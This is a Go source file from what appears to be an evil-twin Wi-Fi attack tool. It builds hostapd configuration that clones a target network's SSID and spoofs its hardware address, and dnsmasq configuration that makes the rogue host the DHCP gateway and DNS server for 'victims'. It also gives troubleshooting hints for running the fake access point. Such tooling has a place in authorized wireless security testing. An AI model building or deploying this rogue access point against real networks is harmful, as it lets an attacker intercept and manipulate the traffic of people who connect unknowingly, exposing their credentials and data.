package rogue

import (
	"fmt"
	"strings"

	"twincast/libs"
)

// TruncateSSID caps an SSID at the 802.11 32 byte limit
func TruncateSSID(essid string) string {
	if len(essid) > 32 {
		return essid[:32]
	}
	return essid
}

// RenderHostapdConfig renders the AP definition hostapd expects. A
// nonempty bssid spoofs the cloned network's hardware address.
func RenderHostapdConfig(ifaceName string, essid string, channel int, bssid string) string {
	if channel < 1 || channel > 14 {
		channel = 6
	}
	var b strings.Builder
	fmt.Fprintf(&b, "interface=%s\n", ifaceName)
	b.WriteString("driver=nl80211\n")
	fmt.Fprintf(&b, "ssid=%s\n", TruncateSSID(essid))
	b.WriteString("hw_mode=g\n")
	fmt.Fprintf(&b, "channel=%d\n", channel)
	b.WriteString("wmm_enabled=1\n")
	b.WriteString("macaddr_acl=0\n")
	b.WriteString("auth_algs=1\n")
	b.WriteString("ignore_broadcast_ssid=0\n")
	b.WriteString("country_code=US\n")
	b.WriteString("ieee80211n=1\n")
	b.WriteString("ht_capab=[HT40][SHORT-GI-20][DSSS_CCK-40]\n")
	if bssid != "" && libs.IsValidMAC(bssid) {
		fmt.Fprintf(&b, "bssid=%s\n", strings.ToLower(bssid))
	}
	return b.String()
}

// RenderDnsmasqConfig renders the DHCP/DNS definition serving victims
// on the rogue subnet.
func RenderDnsmasqConfig(ifaceName string, gateway string, rangeStart string, rangeEnd string, leaseFile string, logFile string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "interface=%s\n", ifaceName)
	b.WriteString("bind-interfaces\n")
	b.WriteString("except-interface=lo\n")
	b.WriteString("no-resolv\n")
	b.WriteString("no-hosts\n")
	fmt.Fprintf(&b, "dhcp-range=%s,%s,12h\n", rangeStart, rangeEnd)
	fmt.Fprintf(&b, "dhcp-option=3,%s\n", gateway)
	fmt.Fprintf(&b, "dhcp-option=6,%s\n", gateway)
	fmt.Fprintf(&b, "dhcp-leasefile=%s\n", leaseFile)
	fmt.Fprintf(&b, "log-facility=%s\n", logFile)
	b.WriteString("server=8.8.8.8\n")
	return b.String()
}

// Hints maps a hostapd failure to likely causes worth reporting
func Hints(stderr string) []string {
	var hints []string
	var lower string = strings.ToLower(stderr)
	if strings.Contains(lower, "interface") || strings.Contains(lower, "nl80211") {
		hints = append(hints, "stop conflicting services: systemctl stop NetworkManager wpa_supplicant")
		hints = append(hints, "verify the driver supports AP mode: iw list | grep -A8 'Supported interface modes'")
	}
	if strings.Contains(lower, "permission") || strings.Contains(lower, "operation not permitted") {
		hints = append(hints, "run as root and unblock the radio: rfkill unblock all")
	}
	if strings.Contains(lower, "no such file") || strings.Contains(lower, "not found") {
		hints = append(hints, "install hostapd: apt install hostapd")
	}
	if len(hints) == 0 {
		hints = append(hints, "check the interface is up and not held by another process")
	}
	return hints
}
